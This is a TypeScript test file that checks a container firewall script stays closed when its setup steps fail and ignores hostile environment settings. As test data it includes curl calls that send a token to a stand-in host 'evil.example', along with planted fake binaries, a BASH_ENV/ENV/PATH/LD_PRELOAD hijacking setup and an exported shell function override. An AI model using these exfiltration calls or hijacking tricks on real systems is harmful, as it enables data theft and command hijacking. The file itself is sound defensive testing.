import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newToken } from '../firewall/attacks/attack.js';
import { failures } from '../firewall/failures.js';
import { type Internet, startInternet } from '../firewall/internet.js';
import { run } from '../firewall/run.js';
import { baseImages, ensureImage } from './base-images.js';
import { docker, harden, missingEngine } from './engine.js';

// Every step of init-firewall.sh that can fail is made to fail; each time everything must be closed afterwards, in both
// families, and the message must name the cause.

const skip = missingEngine() !== undefined;

describe.skipIf(skip)('init-firewall.sh when a step fails', () => {
  let internet: Internet;
  let folder: string;
  let image: string;

  beforeAll(async () => {
    internet = await startInternet();
    folder = mkdtempSync(join(tmpdir(), 'harden-failing-'));
    const outcome = harden(
      'init',
      folder,
      '--yes',
      '--stack',
      'none',
      '--agent',
      'none',
      '--allow',
      'allowed.example',
      '--allow',
      'allowed.example:22',
    );
    if (outcome.code !== 0) throw new Error(outcome.stderr);
    const dockerfile = join(folder, '.devcontainer', 'Dockerfile');
    for (const base of baseImages(readFileSync(dockerfile, 'utf8'))) ensureImage(base);
    image = docker('build', '--quiet', join(folder, '.devcontainer'));
  });

  afterAll(() => {
    internet?.stop();
    rmSync(folder, { recursive: true, force: true });
  });

  /** Runs a program as PID 1 would, with the capabilities that devcontainer.json gives, after `breakIt`; then attacks. */
  function start(breakIt: string, token: string, program = 'init-firewall.sh'): string {
    const capabilities = ['NET_ADMIN', 'NET_RAW', 'NET_BIND_SERVICE', 'SETUID', 'SETGID', 'SETPCAP', 'KILL'];
    const script = `
${breakIt}
/usr/local/sbin/${program}; echo "code=$?"
for tables in iptables ip6tables; do echo "$tables: $("$(command -v "$tables" || echo /usr/sbin/xtables-nft-multi)" $([ -e /usr/sbin/$tables ] || echo $tables) -S OUTPUT | head -1)"; done
setpriv --reuid dev --regid dev --clear-groups curl -sS -m 3 http://198.18.0.66/${token}
setpriv --reuid dev --regid dev --clear-groups curl -sS -m 3 http://evil.example/${token}
true`;
    const { stdout, stderr } = run('docker', [
      'run',
      '--rm',
      '--user',
      'root',
      `--dns=${internet.nameServer}`,
      '--cap-drop=ALL',
      ...capabilities.map((name) => `--cap-add=${name}`),
      '--security-opt=no-new-privileges',
      '--entrypoint',
      'bash',
      image,
      '-c',
      script,
    ]);
    return `${stdout}\n${stderr}`;
  }

  it('works when nothing is broken, and the attack works without it', () => {
    const open = newToken();
    run('docker', [
      'run',
      '--rm',
      `--dns=${internet.nameServer}`,
      '--entrypoint',
      'curl',
      image,
      '-sS',
      '-m',
      '3',
      `http://198.18.0.66/${open}`,
    ]);
    expect(internet.arrived(open)).toBe(true);

    const token = newToken();
    expect(start('true', token)).toContain('code=0');
    expect(internet.arrived(token)).toBe(false);
  });

  it.each(failures)('stays closed when $name', ({ breakIt, says, open }) => {
    const token = newToken();
    const printed = start(breakIt, token, 'harden-entrypoint');
    expect(printed).toMatch(/code=[1-9]/);
    expect(printed).toMatch(says);
    // Where what closes IPv4 is gone, only the end of the container does: see below.
    if (open === 4) return;
    expect(printed).toContain('iptables: -P OUTPUT DROP');
    expect(printed).toContain('ip6tables: -P OUTPUT');
    expect(internet.arrived(token)).toBe(false);
  });

  it('ends the container', () => {
    const broken = docker(
      'run',
      '--detach',
      '--user',
      'root',
      '--cap-drop=ALL',
      '--security-opt=no-new-privileges',
      image,
    );
    try {
      expect(docker('wait', broken)).toBe('1');
      expect(run('docker', ['logs', broken]).stderr).toMatch(/is NET_ADMIN given/);
    } finally {
      docker('rm', '--force', broken);
    }
  });

  it.each(['BASH_ENV=/tmp/evil.sh', 'ENV=/tmp/evil.sh', 'PATH=/tmp/evil:/usr/bin:/bin', 'LD_PRELOAD='])(
    'takes nothing from its environment: %s',
    (setting) => {
      const token = newToken();
      const printed = start(
        `mkdir -p /tmp/evil; printf 'echo CAPTURED >&2\\n' >/tmp/evil.sh; for p in iptables ipset id awk cat; do printf '#!/bin/sh\\necho CAPTURED >&2\\n' >/tmp/evil/$p; chmod 755 /tmp/evil/$p; done; export ${setting}; iptables() { echo CAPTURED >&2; }; export -f iptables`,
        token,
      );
      const firewall = printed.split('code=')[0] ?? '';
      expect(printed).toContain('code=0');
      expect(firewall).not.toContain('CAPTURED');
    },
  );
});
